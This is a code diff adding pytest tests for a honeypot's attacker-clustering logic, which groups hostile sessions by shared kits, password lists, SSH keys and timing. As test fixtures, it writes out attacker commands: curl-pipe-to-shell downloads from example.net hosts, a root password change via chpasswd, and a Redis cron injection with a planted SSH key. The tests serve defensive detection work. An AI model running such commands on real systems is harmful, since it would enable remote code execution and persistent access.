@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import base64
+from random import Random
 
 import pytest
 from sqlalchemy import Engine
@@ -22,6 +23,7 @@ from tests.decnet_workers.clusterer.scenes import (
 )
 
 from decnet_core.events.catalogue import CertificateProbed, HttpRequest, ServiceRequest
+from decnet_core.events.envelope import Event
 from decnet_core.events.typing_digest import TypingDigest
 
 DAY = 86_400
@@ -301,6 +303,86 @@ def test_those_who_give_accounts_one_password_of_their_own_are_one(engine: Engin
     }
     Follower(engine).run([event(each, command(line), place) for place, (each, line) in enumerate(lines.items())])
     assert several(engine) == groups([A, B])
+
+
+def crowd_of(number: int) -> list[Event]:
+    """Return strangers with a tool each, so that what few show is rare, over 90 days."""
+    return [event(f"10.{one >> 8}.{one & 255}.1", hassh(f"{one:032x}"), DAY * (one % 90)) for one in range(number)]
+
+
+def test_users_of_a_kit_are_not_one_when_their_keys_contradict_each_other(engine: Engine) -> None:
+    users = {name: [f"198.51.{number}.{last}" for last in range(1, 3)] for number, name in enumerate("abcd")}
+    kit = [
+        *map(command, ("curl http://kit.example.net/k.sh | sh", "mkdir .kit-of-them", "echo root:vK3bTq9x | chpasswd")),
+        *(password("root", f"of-the-kit-{number}") for number in range(4)),
+        hassh("of the kit"),
+    ]
+    shown = [
+        (each, one) for name, addresses in users.items() for each in addresses for one in (*kit, key(f"{name}-alone"))
+    ]
+    others = [(f"203.0.113.{number}", one) for number in range(3) for one in kit]  # of whom no key is seen
+    Follower(engine).run([*crowd_of(300), *(event(each, one) for each, one in (*shown, *others))])
+    assert several(engine) == groups(*users.values())
+
+
+def test_people_with_one_list_are_not_one_when_each_has_a_key(engine: Engine) -> None:
+    listed = [password("root", f"of-the-crew-{number}") for number in range(12)]
+    people = {name: [f"198.51.{number}.{last}" for last in range(1, 4)] for number, name in enumerate("ab")}
+    shown = [(each, one) for name, found in people.items() for each in found for one in (*listed, key(name))]
+    Follower(engine).run([*crowd_of(300), *(event(each, one) for each, one in shown)])
+    assert several(engine) == groups(*people.values())
+
+
+@pytest.mark.parametrize(("days", "one"), [(3, True), (60, False)])
+def test_few_who_try_the_same_rare_passwords_are_one_if_they_come_within_half_of_the_time(
+    engine: Engine, days: int, one: bool
+) -> None:
+    tries = [password(f"user{number}", f"rare-{number}") for number in range(3)]
+    shown = [event(each, tried, DAY * (10 + days * place)) for place, each in enumerate((A, B)) for tried in tries]
+    Follower(engine).run([*crowd_of(600), *shown])
+    assert several(engine) == (groups([A, B]) if one else set())
+
+
+@pytest.mark.parametrize(("between", "one"), [(0.5, True), (3, False)])
+def test_addresses_that_each_try_a_part_of_one_list_are_one_actors_if_they_come_within_days(
+    engine: Engine, between: float, one: bool
+) -> None:
+    dice = Random(7)
+    listed = [password(f"user{number}", f"one-of-many-{number}") for number in range(40)]
+    walkers = [f"198.51.{number}.7" for number in range(24)]
+    tries = [(place, each, tried) for place, each in enumerate(walkers) for tried in dice.sample(listed, 14)]
+    came = [event(each, tried, int(DAY * (10 + between * place))) for place, each, tried in tries]
+    Follower(engine).run([*crowd_of(900), *came])
+    found = several(engine)
+    assert max((len(group) for group in found), default=1) >= 20 if one else not found
+
+
+def test_parts_of_a_list_do_not_join_a_crew_of_which_each_has_a_key(engine: Engine) -> None:
+    dice = Random(8)
+    listed = [password(f"user{number}", f"one-of-many-{number}") for number in range(30)]
+    people = {name: [f"198.51.{number}.{last}" for last in range(8)] for number, name in enumerate("abc")}
+    shown = [
+        event(each, one, DAY * 10 + 3_600 * place)
+        for name, found in people.items()
+        for place, each in enumerate(found)
+        for one in (key(name), *dice.sample(listed, 12))
+    ]
+    Follower(engine).run([*crowd_of(900), *shown])
+    assert several(engine) == groups(*people.values())
+
+
+@pytest.mark.parametrize(("hosts", "one"), [(3, True), (12, False)])
+def test_hosts_that_a_worm_of_redis_has_infected_are_each_one_and_a_few_addresses_are_a_person(
+    engine: Engine, hosts: int, one: bool
+) -> None:
+    body = base64.b64encode(b"\0\0\0\x0bssh-ed25519" + bytes(range(48))).decode()
+    line = f"\n\nssh-ed25519 {body} a@b\n\n"
+    found = [f"198.51.{number}.7" for number in range(hosts)]
+    stored = ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x {line}"})
+    fetched = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
+    sent = [event(each, request, DAY * place) for place, each in enumerate(found) for request in (stored, fetched)]
+    Follower(engine).run([*crowd_of(300), *sent])
+    assert several(engine) == (groups(found) if one else set())
 
 
 @pytest.mark.parametrize(
